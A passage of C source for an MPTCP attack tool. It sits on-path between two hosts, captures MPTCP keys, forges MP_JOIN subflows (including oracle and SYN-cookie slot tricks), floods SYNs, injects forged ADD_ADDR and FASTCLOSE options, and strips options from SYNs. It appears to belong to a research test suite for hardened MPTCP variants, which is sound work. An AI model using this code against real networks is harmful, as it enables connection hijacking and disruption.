// SPDX-License-Identifier: GPL-2.0-only
/*
 * The attacker of the attack suite: sits in the middle of the paths between two
 * hosts, passes on what they send, remembers what MPTCP says in clear, and does
 * what a line on stdin asks for. Has addresses of its own, for which it answers
 * to ARP and speaks just enough TCP. It knows no external key. It treats every
 * field as RFC 8684's value XOR some mask, and tries masks it has seen: with
 * plain MPTCP these are 0.
 *
 * The keys that it reads are never printed.
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "link.h"

#define NR_PATHS 2
#define MAX_OWN 4
#define MAX_CONNECTIONS 16
#define MAX_RULES 4
#define MAX_ARGS 16
#define FLOOD_BURST 16
#define FLOOD_MAX 1024
#define FLOOD_PAUSE_MS 20
#define FLOOD_PORT 10000
#define MSS 1400

enum side { CLIENT, SERVER, NR_SIDES };

/* What one host has sent last on the first subflow */
struct sender {
	uint32_t next, ack;
	uint32_t tsval, tsecr;
	bool timestamps;
};

/* A first handshake that was seen */
struct connection {
	int path;
	struct endpoint ends[NR_SIDES];
	uint64_t keys[NR_SIDES];
	struct sender senders[NR_SIDES];
	bool has_keys;
};

/* The join that was seen last: what was on the wire */
struct recorded {
	struct endpoint from, to;
	uint32_t token, nonces[NR_SIDES];
	uint64_t synack;
	uint8_t ack[ACK_HMAC_LEN];
	uint8_t id;
	int seen; /* of the three packets */
};

/* Packets of the client with these addresses go on with others */
struct rule {
	int path;
	in_addr_t from, to, new_from, new_to;
};

/* A join of the attacker's own */
struct attempt {
	int path;
	struct endpoint from, to;
	uint32_t seq, peer_seq;
	uint32_t token, nonces[NR_SIDES];
	uint64_t synack;
};

enum answer { SILENT, REFUSED, ANSWERED };
static const char *const answers[] = { "silent", "refused", "answered" };

static struct link links[NR_PATHS][NR_SIDES];
static in_addr_t own[MAX_OWN];
static int nr_own;
static int64_t patience_ms = 1000;

static struct connection connections[MAX_CONNECTIONS];
static int nr_connections;
static struct recorded recorded;
static int nr_joins;
static struct rule rules[MAX_RULES];
static int nr_rules;
static int strip_subtype = -1; /* out of SYNs */
static int nr_stripped;
static bool hold_joins; /* of the client: pump() returns them */
static struct endpoint held; /* and then all from and to this end of one */

static int64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static uint32_t random32(void)
{
	uint32_t value;

	if (getrandom(&value, sizeof(value), 0) != sizeof(value))
		abort();
	return value;
}

static bool is_own(in_addr_t addr)
{
	int i;

	for (i = 0; i < nr_own; i++)
		if (own[i] == addr)
			return true;
	return false;
}

/*
 * What can be learned from passing packets
 */

static struct connection *find_connection(const struct segment *segment,
					  enum side side)
{
	int i;

	for (i = 0; i < nr_connections; i++)
		if (same_endpoint(&connections[i].ends[side], &segment->from) &&
		    same_endpoint(&connections[i].ends[!side], &segment->to))
			return &connections[i];
	return NULL;
}

static void learn_connection(int path, enum side side,
			     const struct segment *segment)
{
	const uint8_t *capable = find_mptcp(segment, MP_CAPABLE), *stamps;
	struct connection *connection = find_connection(segment, side);
	struct sender *sender;

	if (!connection && capable && side == CLIENT && segment->tcp->syn &&
	    nr_connections < MAX_CONNECTIONS) {
		connection = &connections[nr_connections++];
		connection->path = path;
		connection->ends[CLIENT] = segment->from;
		connection->ends[SERVER] = segment->to;
	}
	if (!connection)
		return;

	if (capable && side == CLIENT && capable[1] >= CAPABLE_ACK_LEN) {
		connection->keys[CLIENT] = get64(capable + 4);
		connection->keys[SERVER] = get64(capable + 12);
		connection->has_keys = true;
	}
	sender = &connection->senders[side];
	sender->next = segment->seq + segment->payload_len + segment->tcp->syn +
		       segment->tcp->fin;
	sender->ack = segment->ack;
	stamps = find_option(segment, TCPOPT_TIMESTAMP, 0);
	if (stamps && stamps[1] == TCPOLEN_TIMESTAMP) {
		sender->timestamps = true;
		sender->tsval = get32(stamps + 2);
		sender->tsecr = get32(stamps + 6);
	}
}

static void learn_join(enum side side, const struct segment *segment)
{
	const uint8_t *join = find_mptcp(segment, MP_JOIN);

	if (!join)
		return;
	if (side == CLIENT && segment->tcp->syn && join[1] == JOIN_SYN_LEN) {
		memset(&recorded, 0, sizeof(recorded));
		recorded.from = segment->from;
		recorded.to = segment->to;
		recorded.id = join[3];
		recorded.token = get32(join + 4);
		recorded.nonces[CLIENT] = get32(join + 8);
		recorded.seen = 1;
	} else if (side == SERVER && join[1] == JOIN_SYNACK_LEN &&
		   same_endpoint(&segment->to, &recorded.from)) {
		recorded.synack = get64(join + 4);
		recorded.nonces[SERVER] = get32(join + 12);
		recorded.seen = 2;
	} else if (side == CLIENT && join[1] == JOIN_ACK_LEN &&
		   recorded.seen == 2 &&
		   same_endpoint(&segment->from, &recorded.from)) {
		memcpy(recorded.ack, join + 4, ACK_HMAC_LEN);
		recorded.seen = 3;
		nr_joins++;
	}
}

/*
 * Passing packets on
 */

static void answer_arp(struct link *link, const struct frame *frame)
{
	const struct ether_arp *asked =
		(const struct ether_arp *)(frame->buf + ETH_HLEN);
	struct frame reply = { .len = ETH_HLEN + sizeof(struct ether_arp) };
	struct ether_header *eth = (struct ether_header *)reply.buf;
	struct ether_arp *arp = (struct ether_arp *)(eth + 1);
	in_addr_t target;

	memcpy(&target, asked->arp_tpa, sizeof(target));
	if (asked->ea_hdr.ar_op != htons(ARPOP_REQUEST) || !is_own(target))
		return;
	memcpy(eth->ether_dhost, asked->arp_sha, ETH_ALEN);
	memcpy(eth->ether_shost, link->mac, ETH_ALEN);
	eth->ether_type = htons(ETHERTYPE_ARP);
	arp->ea_hdr = asked->ea_hdr;
	arp->ea_hdr.ar_op = htons(ARPOP_REPLY);
	memcpy(arp->arp_sha, link->mac, ETH_ALEN);
	memcpy(arp->arp_spa, asked->arp_tpa, 4);
	memcpy(arp->arp_tha, asked->arp_sha, ETH_ALEN);
	memcpy(arp->arp_tpa, asked->arp_spa, 4);
	send_frame(link, &reply);
}

/* The other end of the path, where the packet goes on its way */
static void pass_segment(int path, enum side from, struct frame *frame,
			 const struct segment *segment)
{
	const struct link *to = &links[path][!from];

	memcpy(segment->eth->ether_dhost, to->peer_mac, ETH_ALEN);
	set_checksums(segment);
	send_frame(to, frame);
}

static bool rewrite(int path, enum side side, const struct segment *segment)
{
	struct iphdr *ip = segment->ip;
	int i;

	for (i = 0; i < nr_rules; i++) {
		const struct rule *rule = &rules[i];

		if (rule->path != path)
			continue;
		if (side == CLIENT && ip->saddr == rule->from &&
		    ip->daddr == rule->to) {
			ip->saddr = rule->new_from;
			ip->daddr = rule->new_to;
			return true;
		}
		if (side == SERVER && ip->saddr == rule->new_to &&
		    ip->daddr == rule->new_from) {
			ip->saddr = rule->to;
			ip->daddr = rule->from;
			return true;
		}
	}
	return false;
}

static bool strip(const struct segment *segment)
{
	uint8_t *option;

	if (strip_subtype < 0 || !segment->tcp->syn)
		return false;
	option = find_mptcp(segment, (uint8_t)strip_subtype);
	if (!option)
		return false;
	memset(option, TCPOPT_NOP, option[1]);
	nr_stripped++;
	return true;
}

/* True if the frame is not passed on, but for the attacker itself */
static bool handle(int path, enum side side, struct frame *frame)
{
	struct link *link = &links[path][side];
	struct ether_header *eth = (struct ether_header *)frame->buf;
	struct segment segment;

	memcpy(link->peer_mac, eth->ether_shost, ETH_ALEN);
	if (eth->ether_type == htons(ETHERTYPE_ARP))
		answer_arp(link, frame);
	if (!parse_segment(frame, &segment)) {
		send_frame(&links[path][!side], frame);
		return false;
	}
	if (rewrite(path, side, &segment)) {
		pass_segment(path, side, frame, &segment);
		return false;
	}
	if (is_own(segment.to.addr))
		return true;
	if (hold_joins && side == CLIENT && find_mptcp(&segment, MP_JOIN))
		return true;
	if (held.port &&
	    same_endpoint(&held, side == CLIENT ? &segment.from : &segment.to))
		return true;

	learn_connection(path, side, &segment);
	learn_join(side, &segment);
	if (strip(&segment))
		pass_segment(path, side, frame, &segment);
	else
		send_frame(&links[path][!side], frame);
	return false;
}

/*
 * Passes packets on until one comes that is for the attacker, or until the time
 * is over or, if it is to look at that, there is something to read on stdin.
 */
static bool pump(int64_t until, bool look_at_stdin, struct frame *frame)
{
	struct pollfd fds[NR_PATHS * NR_SIDES + 1];
	int64_t left;
	ssize_t got;
	int i;

	for (;;) {
		for (i = 0; i < NR_PATHS * NR_SIDES; i++)
			fds[i] = (struct pollfd){
				.fd = links[i / NR_SIDES][i % NR_SIDES].fd,
				.events = POLLIN
			};
		fds[i] = (struct pollfd){ .fd = look_at_stdin ? STDIN_FILENO :
								-1,
					  .events = POLLIN };
		left = until - now_ms();
		if (left < 0)
			left = look_at_stdin ? -1 : 0;
		if (!poll(fds, NR_PATHS * NR_SIDES + 1, (int)left))
			return false;

		for (i = 0; i < NR_PATHS * NR_SIDES; i++) {
			if (!(fds[i].revents & POLLIN))
				continue;
			got = recv(fds[i].fd, frame->buf, sizeof(frame->buf),
				   MSG_DONTWAIT | MSG_TRUNC);
			if (got < (ssize_t)ETH_HLEN)
				continue;
			if (got > (ssize_t)sizeof(frame->buf)) {
				fprintf(stderr,
					"attacker: a frame of %zd bytes: "
					"switch segmentation offload off\n",
					got);
				exit(1);
			}
			frame->len = (size_t)got;
			if (handle(i / NR_SIDES, i % NR_SIDES, frame))
				return true;
		}
		if (fds[i].revents)
			return false;
	}
}

/*
 * The words of a command: NAME=VALUE
 */

static char *args[MAX_ARGS];
static int nr_args;

static const char *arg(const char *name, const char *otherwise)
{
	size_t len = strlen(name);
	int i;

	for (i = 0; i < nr_args; i++)
		if (!strncmp(args[i], name, len) && args[i][len] == '=')
			return args[i] + len + 1;
	return otherwise;
}

static bool arg_is(const char *name, const char *value, const char *otherwise)
{
	return !strcmp(arg(name, otherwise), value);
}

static unsigned int arg_number(const char *name, const char *otherwise)
{
	return (unsigned int)strtoul(arg(name, otherwise), NULL, 10);
}

static in_addr_t arg_addr(const char *name, const char *otherwise)
{
	return inet_addr(arg(name, otherwise));
}

static struct connection *arg_connection(const char *name)
{
	unsigned int nr = arg_number(name, "0");

	if (nr >= (unsigned int)nr_connections || !connections[nr].has_keys)
		return NULL;
	return &connections[nr];
}

/*
 * Joins of the attacker's own
 */

static void send_attempt(const struct attempt *attempt, struct plan *plan)
{
	const struct link *link = &links[attempt->path][SERVER];
	struct frame frame;

	plan->from_mac = link->mac;
	plan->to_mac = link->peer_mac;
	plan->from = attempt->from;
	plan->to = attempt->to;
	plan->seq = attempt->seq;
	plan->ack = attempt->peer_seq;
	make_segment(&frame, plan);
	send_frame(link, &frame);
}

/* The next segment that the server sends on this subflow */
static bool next_segment(const struct attempt *attempt, int64_t until,
			 struct frame *frame, struct segment *segment)
{
	while (pump(until, false, frame)) {
		if (parse_segment(frame, segment) &&
		    same_endpoint(&segment->from, &attempt->to) &&
		    same_endpoint(&segment->to, &attempt->from))
			return true;
	}
	return false;
}

static void send_syn(const struct attempt *attempt)
{
	struct plan plan = { .flags = TH_SYN };
	uint8_t *at = plan.options;

	*at++ = TCPOPT_MAXSEG;
	*at++ = TCPOLEN_MAXSEG;
	at = put16(at, MSS);
	*at++ = MPTCP_KIND;
	*at++ = JOIN_SYN_LEN;
	*at++ = MP_JOIN << 4;
	*at++ = (uint8_t)arg_number("id", "66");
	at = put32(at, attempt->token);
	at = put32(at, attempt->nonces[CLIENT]);
	plan.options_len = (unsigned int)(at - plan.options);
	send_attempt(attempt, &plan);
}

/* No option at all: the sequence number of the answer, a cookie perhaps */
static bool ask_for_cookie(const struct attempt *attempt, uint32_t *cookie)
{
	int64_t until = now_ms() + patience_ms;
	struct plan plan = { .flags = TH_SYN };
	struct segment segment;
	struct frame frame;

	send_attempt(attempt, &plan);
	while (next_segment(attempt, until, &frame, &segment)) {
		if (!segment.tcp->syn)
			continue;
		*cookie = segment.seq;
		return true;
	}
	return false;
}

static enum answer take_synack(struct attempt *attempt)
{
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;
	const uint8_t *join;

	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		join = find_mptcp(&segment, MP_JOIN);
		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
			continue;
		attempt->seq++;
		attempt->peer_seq = segment.seq + 1;
		attempt->synack = get64(join + 4);
		attempt->nonces[SERVER] = get32(join + 12);
		return ANSWERED;
	}
	return SILENT;
}

static enum answer send_ack(const struct attempt *attempt,
			    const uint8_t hmac[ACK_HMAC_LEN])
{
	struct plan plan = { .flags = TH_ACK, .options_len = JOIN_ACK_LEN };
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;

	plan.options[0] = MPTCP_KIND;
	plan.options[1] = JOIN_ACK_LEN;
	plan.options[2] = MP_JOIN << 4;
	memcpy(plan.options + 4, hmac, ACK_HMAC_LEN);
	send_attempt(attempt, &plan);
	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		/* Not the SYN/ACK again: the fourth packet, which ends the join */
		if (!segment.tcp->syn)
			return ANSWERED;
	}
	return SILENT;
}

static void send_reset(const struct attempt *attempt)
{
	struct plan plan = { .flags = TH_RST | TH_ACK };

	send_attempt(attempt, &plan);
}

/* Whether MPTCP has all data up to this sequence number */
static bool acknowledges(const struct segment *segment, uint64_t dsn)
{
	const uint8_t *dss = find_mptcp(segment, MP_DSS);

	if (!dss || !(dss[3] & 1))
		return false;
	return dss[3] & 2 ? get64(dss + 4) == dsn :
			    get32(dss + 4) == (uint32_t)dsn;
}

/* Bytes into the stream of the client, behind those @offset that it sent itself */
static enum answer send_data(struct attempt *attempt,
			     const struct connection *connection,
			     unsigned int len, unsigned int offset)
{
	static uint8_t bytes[1024];
	uint64_t dsn = key_first_dsn(connection->keys[CLIENT]) + offset;
	struct plan plan = { .flags = TH_ACK | TH_PUSH, .payload = bytes };
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;
	uint8_t *at = plan.options;

	plan.payload_len = len < sizeof(bytes) ? len : sizeof(bytes);
	memset(bytes, 'A', sizeof(bytes));
	*at++ = MPTCP_KIND;
	*at++ = 26;
	*at++ = MP_DSS << 4;
	*at++ = 0xf; /* data ack and mapping, both of 8 bytes */
	at = put64(at, key_first_dsn(connection->keys[SERVER]));
	at = put64(at, dsn);
	at = put32(at, 1);
	at = put16(at, (uint16_t)plan.payload_len);
	plan.options_len = (unsigned int)(at - plan.options);
	send_attempt(attempt, &plan);
	attempt->seq += plan.payload_len;
	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		if (acknowledges(&segment, dsn + plan.payload_len))
			return ANSWERED;
	}
	return SILENT;
}

/* What the recorded join's token was masked with, if it was one of @connection */
static uint32_t learned_token_mask(const struct connection *connection)
{
	return recorded.token ^ key_token(connection->keys[SERVER]);
}

static void learned_ack_mask(const struct connection *connection,
			     uint8_t mask[ACK_HMAC_LEN])
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	int i;

	join_hmac(connection->keys[CLIENT], connection->keys[SERVER],
		  recorded.nonces[CLIENT], recorded.nonces[SERVER], hmac);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		mask[i] = recorded.ack[i] ^ hmac[i];
}

/*
 * token=real	 the target's, in plain
 * token=learned the target's, with the mask of the recorded join, which was one
 *		 of connection learn=N
 * token=recorded what was on the wire
 * token=random
 */
static void start_attempt(struct attempt *attempt,
			  const struct connection *target,
			  const struct connection *teacher, unsigned int nr)
{
	const char *token = arg("token", "real");

	memset(attempt, 0, sizeof(*attempt));
	attempt->path = (int)arg_number("path", "1") - 1;
	attempt->from.addr = arg_addr("from", "10.0.1.66");
	attempt->from.port =
		htons((uint16_t)(arg_number("port", "0") ?
					 arg_number("port", "0") :
					 20000 + random32() % 20000 + nr));
	attempt->to = target->ends[SERVER];
	attempt->seq = random32();
	attempt->nonces[CLIENT] = arg_is("nonce", "recorded", "fresh") ?
					  recorded.nonces[CLIENT] :
					  random32();
	attempt->token = key_token(target->keys[SERVER]);
	if (!strcmp(token, "recorded"))
		attempt->token = recorded.token;
	else if (!strcmp(token, "learned"))
		attempt->token ^= learned_token_mask(teacher);
	else if (!strcmp(token, "random"))
		attempt->token = random32();
}

/*
 * ack=real	 RFC 8684's
 * ack=learned	 with the mask of the recorded join
 * ack=recorded	 what was on the wire
 * ack=reflected the server's own HMAC of this join
 * ack=random	 what who knows no keys can send
 */
static void choose_ack(const struct attempt *attempt,
		       const struct connection *target,
		       const struct connection *teacher,
		       uint8_t hmac[SHA256_DIGEST_LENGTH])
{
	const char *how = arg("ack", "real");
	uint8_t mask[ACK_HMAC_LEN];
	int i;

	join_hmac(target->keys[CLIENT], target->keys[SERVER],
		  attempt->nonces[CLIENT], attempt->nonces[SERVER], hmac);
	if (!strcmp(how, "learned")) {
		learned_ack_mask(teacher, mask);
		for (i = 0; i < ACK_HMAC_LEN; i++)
			hmac[i] ^= mask[i];
	} else if (!strcmp(how, "recorded")) {
		memcpy(hmac, recorded.ack, ACK_HMAC_LEN);
	} else if (!strcmp(how, "reflected")) {
		memset(hmac, 0, ACK_HMAC_LEN);
		put64(hmac, attempt->synack);
	} else if (!strcmp(how, "random")) {
		for (i = 0; i < ACK_HMAC_LEN; i += 4)
			put32(hmac + i, random32());
	}
}

static uint64_t synack_hmac(const struct connection *connection,
			    const struct attempt *attempt)
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];

	join_hmac(connection->keys[SERVER], connection->keys[CLIENT],
		  attempt->nonces[SERVER], attempt->nonces[CLIENT], hmac);
	return get64(hmac);
}

/* From the SYN/ACK on; says how far it came */
static void end_join(struct attempt *attempt, const struct connection *target,
		     const uint8_t hmac[ACK_HMAC_LEN])
{
	unsigned int bytes = arg_number("bytes", "0");
	enum answer answer = send_ack(attempt, hmac);

	printf(" ack=%s", answers[answer]);
	if (answer == ANSWERED && bytes)
		printf(" data=%s",
		       answers[send_data(attempt, target, bytes,
					 arg_number("offset", "1"))]);
	/* Or the server might want to send its answer this way */
	send_reset(attempt);
}

/*
 * via=ADDR	 the ACK goes to that address, with a cookie of its listener
 */
static bool cmd_join(void)
{
	const struct connection *target = arg_connection("conn");
	const struct connection *teacher = arg_connection("learn");
	in_addr_t via = arg_addr("via", "0.0.0.0");
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	struct attempt attempt, other;
	uint32_t cookie = 0;
	enum answer answer;

	if (!target || !teacher)
		return false;
	start_attempt(&attempt, target, teacher, 0);
	if (via) {
		other = attempt;
		other.to.addr = via;
		if (!ask_for_cookie(&other, &cookie))
			return false;
	}
	send_syn(&attempt);
	answer = take_synack(&attempt);
	printf(" syn=%s", answers[answer]);
	if (answer != ANSWERED)
		return true;
	printf(" synack=%s", synack_hmac(target, &attempt) == attempt.synack ?
				     "plain" :
				     "masked");
	choose_ack(&attempt, target, teacher, hmac);
	if (via) {
		attempt.to.addr = via;
		attempt.peer_seq = cookie + 1;
	}
	end_join(&attempt, target, hmac);
	return true;
}

/* SYNs alone, of ports that follow on each other, and what came back */
struct flood {
	in_addr_t from;
	unsigned int count, answered, refused;
	bool done[FLOOD_MAX];
};

/* Each port is counted once: a SYN/ACK comes again and again. True for the last */
static bool count_answers(struct flood *flood, int64_t until)
{
	struct segment segment;
	struct frame frame;
	unsigned int nr;

	while (pump(until, false, &frame)) {
		if (!parse_segment(&frame, &segment))
			continue;
		nr = ntohs(segment.to.port) - FLOOD_PORT;
		if (segment.to.addr != flood->from || nr >= flood->count ||
		    flood->done[nr])
			continue;
		flood->done[nr] = true;
		flood->answered += segment.tcp->syn;
		flood->refused += segment.tcp->rst;
		if (flood->answered + flood->refused == flood->count)
			return true;
	}
	return false;
}

/* count=N of them, again and again for ms=N */
static bool cmd_syns(void)
{
	const struct connection *target = arg_connection("conn");
	const struct connection *teacher = arg_connection("learn");
	struct flood flood = { .count = arg_number("count", "1") };
	int64_t end = now_ms() + arg_number("ms", "0");
	struct attempt attempt;
	unsigned int i;

	if (!target || !teacher || flood.count > FLOOD_MAX)
		return false;
	do {
		for (i = 0; i < flood.count; i++) {
			start_attempt(&attempt, target, teacher, i);
			attempt.from.port = htons((uint16_t)(FLOOD_PORT + i));
			flood.from = attempt.from.addr;
			send_syn(&attempt);
			if (i % FLOOD_BURST == 0)
				count_answers(&flood, now_ms());
		}
		count_answers(&flood, now_ms() + FLOOD_PAUSE_MS);
	} while (now_ms() < end);
	count_answers(&flood, now_ms() + patience_ms / 2);
	printf(" sent=%u answered=%u refused=%u silent=%u", flood.count,
	       flood.answered, flood.refused,
	       flood.count - flood.answered - flood.refused);
	return true;
}

/* The next MP_JOIN of this length that the client sends, which is not passed on */
static uint8_t *held_join(uint8_t len, int64_t until, struct frame *frame,
			  struct segment *segment)
{
	uint8_t *join;

	while (pump(until, false, frame)) {
		join = parse_segment(frame, segment) ?
			       find_mptcp(segment, MP_JOIN) :
			       NULL;
		if (join && join[1] == len)
			return join;
	}
	return NULL;
}

/* To the client, as if the server of its join had sent it */
static void send_synack(int path, const struct segment *syn, uint64_t hmac,
			uint32_t nonce)
{
	struct plan plan = {
		.flags = TH_SYN | TH_ACK,
		.from = syn->to,
		.to = syn->from,
		.seq = random32(),
		.ack = syn->seq + 1,
		.from_mac = links[path][SERVER].peer_mac,
		.to_mac = links[path][CLIENT].peer_mac,
		.options = { MPTCP_KIND, JOIN_SYNACK_LEN, MP_JOIN << 4 },
		.options_len = JOIN_SYNACK_LEN,
	};
	struct frame frame;

	put32(put64(plan.options + 4, hmac), nonce);
	make_segment(&frame, &plan);
	send_frame(&links[path][CLIENT], &frame);
}

/*
 * A join of the client to connection learn=Y is held, and what the client
 * answers is used for one to connection conn=X in its place, with the same
 * addresses: what masks the fields of Y might mask those of X.
 */
static bool cmd_oracle(void)
{
	int64_t until = now_ms() + 20 * patience_ms;
	uint8_t hmac_x[SHA256_DIGEST_LENGTH], hmac_y[SHA256_DIGEST_LENGTH];
	const struct connection *x, *y;
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	enum answer answer;
	uint64_t mask;
	uint8_t *join;
	int i;

	hold_joins = true;
	join = held_join(JOIN_SYN_LEN, until, &syn_frame, &syn);
	if (!join) {
		printf(" no-join");
		return true;
	}
	/* Connection Y may be younger than the command */
	x = arg_connection("conn");
	y = arg_connection("learn");
	if (!x || !y)
		return false;

	start_attempt(&attempt, x, y, 0);
	held = attempt.from = syn.from;
	attempt.nonces[CLIENT] = get32(join + 8);
	attempt.token = get32(join + 4) ^ key_token(y->keys[SERVER]) ^
			key_token(x->keys[SERVER]);
	send_syn(&attempt);
	answer = take_synack(&attempt);
	printf(" syn=%s", answers[answer]);
	if (answer != ANSWERED)
		return true;

	mask = attempt.synack ^ synack_hmac(x, &attempt);
	send_synack(attempt.path, &syn, synack_hmac(y, &attempt) ^ mask,
		    attempt.nonces[SERVER]);
	join = held_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
			 &segment);
	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
	if (!join)
		return true;

	join_hmac(x->keys[CLIENT], x->keys[SERVER], attempt.nonces[CLIENT],
		  attempt.nonces[SERVER], hmac_x);
	join_hmac(y->keys[CLIENT], y->keys[SERVER], attempt.nonces[CLIENT],
		  attempt.nonces[SERVER], hmac_y);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac_x[i] ^= hmac_y[i] ^ join[4 + i];
	end_join(&attempt, x, hmac_x);
	return true;
}

/* The SYN/ACK of a join that is held; it goes on to the client as well */
static bool pass_synack(int path, int64_t until, uint32_t *seq, uint32_t *nonce)
{
	struct segment segment;
	struct frame frame;
	const uint8_t *join;

	while (pump(until, false, &frame)) {
		if (!parse_segment(&frame, &segment) ||
		    !same_endpoint(&segment.to, &held))
			continue;
		join = find_mptcp(&segment, MP_JOIN);
		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
			continue;
		*seq = segment.seq;
		*nonce = get32(join + 12);
		pass_segment(path, SERVER, &frame, &segment);
		return true;
	}
	return false;
}

/*
 * With SYN cookies: a join of the client to connection learn=Y goes on up to its
 * ACK, which is held. A SYN with the same ports and sequence number from from=ADDR
 * leads to connection conn=X: the kernel keeps it where it has kept the client's.
 * Then the ACK comes from the client's address, as it has answered, but for X.
 */
static bool cmd_slot(void)
{
	int64_t until = now_ms() + 20 * patience_ms;
	uint8_t hmac_x[SHA256_DIGEST_LENGTH], hmac_y[SHA256_DIGEST_LENGTH];
	int i, path = (int)arg_number("path", "1") - 1;
	uint32_t nonces[NR_SIDES], cookie;
	const struct connection *x, *y;
	struct frame frame, syn_frame;
	struct segment segment, syn;
	struct attempt attempt;
	enum answer answer;
	uint8_t *join;

	hold_joins = true;
	join = held_join(JOIN_SYN_LEN, until, &syn_frame, &syn);
	if (!join) {
		printf(" no-join");
		return true;
	}
	/* Connection Y may be younger than the command */
	x = arg_connection("conn");
	y = arg_connection("learn");
	if (!x || !y)
		return false;

	start_attempt(&attempt, x, y, 0);
	held = syn.from;
	nonces[CLIENT] = get32(join + 8);
	attempt.from.port = syn.from.port;
	attempt.seq = syn.seq;
	attempt.nonces[CLIENT] = nonces[CLIENT];
	attempt.token = get32(join + 4) ^ key_token(y->keys[SERVER]) ^
			key_token(x->keys[SERVER]);
	pass_segment(path, CLIENT, &syn_frame, &syn);
	if (!pass_synack(path, now_ms() + 4 * patience_ms, &cookie,
			 &nonces[SERVER])) {
		printf(" no-answer");
		return true;
	}
	join = held_join(JOIN_ACK_LEN, now_ms() + 4 * patience_ms, &frame,
			 &segment);
	if (!join) {
		printf(" no-ack");
		return true;
	}

	send_syn(&attempt);
	answer = take_synack(&attempt);
	printf(" syn=%s", answers[answer]);
	if (answer != ANSWERED)
		return true;
	join_hmac(x->keys[CLIENT], x->keys[SERVER], attempt.nonces[CLIENT],
		  attempt.nonces[SERVER], hmac_x);
	join_hmac(y->keys[CLIENT], y->keys[SERVER], nonces[CLIENT],
		  nonces[SERVER], hmac_y);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac_x[i] ^= hmac_y[i] ^ join[4 + i];
	attempt.from = syn.from;
	attempt.peer_seq = cookie + 1;
	end_join(&attempt, x, hmac_x);
	return true;
}

/*
 * Forged options on the first subflow, in an ACK that the other side has sent
 * already as far as TCP can tell
 */

static uint8_t *put_timestamps(uint8_t *at, const struct sender *sender)
{
	if (!sender->timestamps)
		return at;
	*at++ = TCPOPT_NOP;
	*at++ = TCPOPT_NOP;
	*at++ = TCPOPT_TIMESTAMP;
	*at++ = TCPOLEN_TIMESTAMP;
	return put32(put32(at, sender->tsval), sender->tsecr);
}

/* Sent by @from; its address if it is ADD_ADDR is addr= and addr_port= */
static uint8_t *put_forged(uint8_t *at, const struct connection *connection,
			   enum side from)
{
	struct endpoint address = { arg_addr("addr", "0.0.0.0"),
				    htons((uint16_t)arg_number("addr_port",
							       "0")) };
	uint8_t id = (uint8_t)arg_number("id", "66");

	*at++ = MPTCP_KIND;
	if (arg_is("what", "fastclose", "")) {
		*at++ = 12;
		*at++ = MP_FASTCLOSE << 4;
		*at++ = 0;
		return put64(at, connection->keys[!from]);
	}
	if (arg_is("what", "remove-addr", "")) {
		*at++ = 4;
		*at++ = MP_REMOVE_ADDR << 4;
		*at++ = id;
		return at;
	}
	if (arg_is("what", "prio", "")) {
		*at++ = 3;
		*at++ = MP_PRIO << 4 | 1; /* backup */
		return at;
	}
	*at++ = address.port ? 18 : 16;
	*at++ = MP_ADD_ADDR << 4;
	*at++ = id;
	memcpy(at, &address.addr, 4);
	at += 4;
	if (address.port)
		at = put16(at, ntohs(address.port));
	return put64(at, add_addr_hmac(connection->keys[from],
				       connection->keys[!from], id, &address,
				       address.port));
}

static bool cmd_inject(void)
{
	const struct connection *connection = arg_connection("conn");
	enum side to = arg_is("to", "server", "client") ? SERVER : CLIENT;
	const struct sender *sender;
	struct plan plan = { .flags = TH_ACK };
	struct frame frame;

	if (!connection)
		return false;
	sender = &connection->senders[!to];
	plan.from_mac = links[connection->path][!to].peer_mac;
	plan.to_mac = links[connection->path][to].peer_mac;
	plan.from = connection->ends[!to];
	plan.to = connection->ends[to];
	plan.seq = sender->next;
	plan.ack = sender->ack;
	plan.options_len =
		(unsigned int)(put_forged(put_timestamps(plan.options, sender),
					  connection, !to) -
			       plan.options);
	make_segment(&frame, &plan);
	send_frame(&links[connection->path][to], &frame);
	printf(" sent=1");
	return true;
}

static bool cmd_rewrite(void)
{
	struct rule *rule = &rules[nr_rules];

	if (nr_rules == MAX_RULES)
		return false;
	rule->path = (int)arg_number("path", "1") - 1;
	rule->from = arg_addr("from", "");
	rule->to = arg_addr("to", "");
	rule->new_from = arg_addr("newfrom", "");
	rule->new_to = arg_addr("newto", "");
	nr_rules++;
	return true;
}

static bool cmd_strip(void)
{
	strip_subtype = arg_is("what", "capable", "") ? MP_CAPABLE : MP_JOIN;
	return true;
}

static bool cmd_seen(void)
{
	int i, with_keys = 0;

	for (i = 0; i < nr_connections; i++)
		with_keys += connections[i].has_keys;
	printf(" connections=%d joins=%d id=%u stripped=%d", with_keys,
	       nr_joins, recorded.id, nr_stripped);
	return true;
}

static bool cmd_reset(void)
{
	memset(connections, 0, sizeof(connections));
	memset(&recorded, 0, sizeof(recorded));
	nr_connections = nr_joins = nr_rules = nr_stripped = 0;
	strip_subtype = -1;
	return true;
}

static const struct {
	const char *name;
	bool (*run)(void);
} commands[] = {
	{ "join", cmd_join },	  { "syns", cmd_syns },
	{ "oracle", cmd_oracle }, { "slot", cmd_slot },
	{ "inject", cmd_inject }, { "rewrite", cmd_rewrite },
